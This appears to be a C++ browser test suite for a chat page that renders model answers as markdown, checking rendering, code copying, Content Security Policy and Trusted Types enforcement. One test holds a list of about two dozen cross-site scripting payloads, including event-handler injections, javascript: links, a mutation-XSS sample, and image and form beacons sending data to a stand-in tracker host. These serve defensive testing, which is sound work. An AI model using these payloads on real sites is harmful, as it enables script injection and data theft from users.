// What a model says, as the browser shows it: markdown and code, and nothing that acts, loads or leads
// astray.
#include "tests/server/page_fixture.h"

namespace rotor::test {
namespace {

using nlohmann::json;

TEST_F(PageTest, MarkdownAndCode) {
  api_->next({.pieces = {"# Title\n\nSome **bold** and `code`.\n\n- [x] done\n- [ ] open\n\n",
                         "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\ndef f(x):\n    return x < 1\n```\n",
                         "\nA [link](https://example.org/x). 2 &lt; 3 &amp; &#8594; &foo; \\*"}});
  say("Show me");
  EXPECT_EQ(browser_->text(".last h1"), "Title");
  EXPECT_EQ(browser_->text(".last strong"), "bold");
  EXPECT_EQ(browser_->text(".last li"), "☑ done");
  EXPECT_EQ(browser_->text(".last .block:last-child p"), "A link. 2 < 3 & \u2192 &foo; *");
  EXPECT_EQ(browser_->count(".last td"), 2);
  EXPECT_EQ(browser_->run("return document.querySelector('.last pre code').textContent"),
            "def f(x):\n    return x < 1");
  EXPECT_EQ(browser_->text(".last .code-heading span"), "python");
  browser_->wait_for("document.querySelector('.last .hljs-keyword')?.textContent === 'def'");
  EXPECT_EQ(browser_->run("const a = document.querySelector('.last a'); return [a.href, a.target, a.rel]"),
            json({"https://example.org/x", "_blank", "noopener noreferrer nofollow"}));
}

TEST_F(PageTest, CopiesCode) {
  api_->next({.pieces = {"```\nline 1\nline 2\n```"}});
  say("Show me");
  // The clipboard of a machine is not there for tests: what was put on it is looked at.
  for (const char* prepare :
       {"navigator.clipboard.writeText = async (text) => { window.copied = text }",
        "Object.defineProperty(navigator, 'clipboard', {value: undefined});"
        "document.execCommand = () => { window.copied = document.activeElement.value; return true }"}) {
    browser_->run(std::string("window.copied = ''; ") + prepare);
    browser_->click(".last .code [aria-label='Copy the code']");
    browser_->wait_for("window.copied === 'line 1\\nline 2'");
    browser_->wait_for(
        "document.querySelector('.last .code button').getAttribute('aria-label') === 'Copied'");
    browser_->wait_for(
        "document.querySelector('.last .code button').getAttribute('aria-label') === 'Copy the code'");
  }
}

TEST_F(PageTest, HostileMarkdownIsInert) {
  const std::vector<std::string> hostile = {
      "<script>window.hacked = 1</script>",
      "<img src=x onerror='window.hacked = 2'>",
      "<img src='http://tracker.invalid/pixel.png'>",
      "![secret](http://tracker.invalid/leak.png?text=secret)",
      "[click](javascript:window.hacked=3)",
      "[click](JaVaScRiPt&colon;window.hacked=4)",
      "[click](data:text/html,<script>alert(1)</script>)",
      "[click](\x01javascript:window.hacked=5)",
      "<a href='javascript:window.hacked=6'>x</a>",
      "<svg onload='window.hacked = 7'><script>window.hacked = 8</script></svg>",
      "<iframe srcdoc='<script>parent.hacked = 9</script>'></iframe>",
      "<style>body { display: none }</style>",
      "<form action='http://tracker.invalid/'><input name=messages><button>Log in</button></form>",
      "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
      "onerror=hacked=10&gt;'>",
      "<details open ontoggle='window.hacked = 11'>x</details>",
      "<base href='http://tracker.invalid/'>",
      "<p id=composer class=sources style='position:fixed;inset:0'>over the page</p>",
      "```\"><script>window.hacked=12</script>\n<img src=x onerror=hacked=13>\n```",
      "```html\n<img src=x onerror='window.hacked = 14'>\n```",
      "![x](y \"onerror=hacked=15\")\n\n![\"><img src=x onerror=hacked=16>](z)",
      "| <img src=x onerror=hacked=17> |\n|---|\n| <script>hacked=18</script> |",
      "<mark onmouseover='hacked=19'>x</mark><br onclick='hacked=20'>",
      "[a]: javascript:window.hacked=21\n\n[a]",
      "<http://ok.invalid/\"onmouseover=\"hacked=22>",
  };
  std::string all;
  for (const std::string& text : hostile) all += text + "\n\n";
  std::vector<std::string> pieces;
  for (size_t at = 0; at < all.size(); at += 7) pieces.push_back(all.substr(at, 7));
  api_->next({.pieces = pieces});
  say("Attack");
  browser_->run(
      "document.querySelectorAll('.last .text *').forEach((node) => { node.dispatchEvent(new "
      "MouseEvent('mouseover')); "
      "node.dispatchEvent(new Event('toggle')) })");
  EXPECT_EQ(browser_->run("return window.hacked ?? 0"), 0);
  EXPECT_EQ(browser_->count(".last .text :is(script, img, svg, iframe, style, form, input, math, object, "
                            "base, details):not(.code-heading *)"),
            0);
  EXPECT_EQ(
      browser_->run(
          R"(return [...document.querySelectorAll('.last .text *')].flatMap((node) => [...node.attributes])
      .filter((a) => a.name.startsWith('on') || a.name === 'style' || a.name === 'id' || a.name === 'src').length)"),
      0);
  EXPECT_EQ(browser_->run(R"(return [...document.querySelectorAll('.last .text a[href]')]
      .filter((a) => !/^(https?|mailto):/.test(a.href) || !a.rel.includes('noopener') || a.target !== '_blank').length)"),
            0);
  EXPECT_EQ(browser_->count(".sources"), 0) << "a class of the page's own";
  EXPECT_NE(answer().find("<script>window.hacked = 1</script>"), std::string::npos) << "shown as text";
  for (const auto& entry : browser_->take_log("performance")) {
    const json event = json::parse(entry["message"].get<std::string>())["message"];
    if (event["method"] != "Network.requestWillBeSent") continue;
    const std::string address = event["params"]["request"]["url"];
    EXPECT_TRUE(address.starts_with(api_->address())) << address;
  }
}

TEST_F(PageTest, ThePolicyHoldsEvenIfMarkupGotThrough) {
  for (const char* attempt : {"document.createElement('a').setAttribute('onclick', 'window.hacked = 1')",
                              "document.createElement('div').innerHTML = '<b>x</b>'",
                              "document.createElement('script').text = 'window.hacked = 3'"}) {
    EXPECT_NE(
        browser_->run("try { " + std::string(attempt) + "; return 'done' } catch (e) { return e.name }"),
        "done")
        << attempt;
  }
  EXPECT_EQ(browser_->run("return fetch('http://127.0.0.1:1/').then(() => 'sent', (e) => e.name)"),
            "TypeError");
  const std::string said = browser_->take_log("browser").dump();
  EXPECT_NE(said.find("connect-src"), std::string::npos) << said;
  EXPECT_NE(said.find("TrustedHTML"), std::string::npos) << said;
}

TEST_F(PageTest, TextThatNoParserCanNestIsShownAsItIs) {
  api_->next({.pieces = {std::string(30000, '>') + " deep"}});
  say("Nest");
  EXPECT_NE(browser_->run("return document.querySelector('.last .text').textContent")
                .get<std::string>()
                .find("deep"),
            std::string::npos);
  say("Still there?");
  EXPECT_EQ(answer(), "You said: Still there?");
}

TEST_F(PageTest, BlocksThatAreFinishedAreNotTouched) {
  api_->next({.pieces = {"First paragraph.\n\n", "Second", " grows.\n\n", "Third."},
              .pause = std::chrono::milliseconds(150)});
  send("Write");
  browser_->wait_for("document.querySelector('.last .text')?.innerText.includes('Second')");
  browser_->run("document.querySelector('.last .block').dataset.mine = '1'");
  finish();
  EXPECT_EQ(browser_->count(".last .block[data-mine]"), 1);
  EXPECT_EQ(browser_->count(".last .block"), 5) << "paragraphs and the space between them";
}

}  // namespace
}  // namespace rotor::test
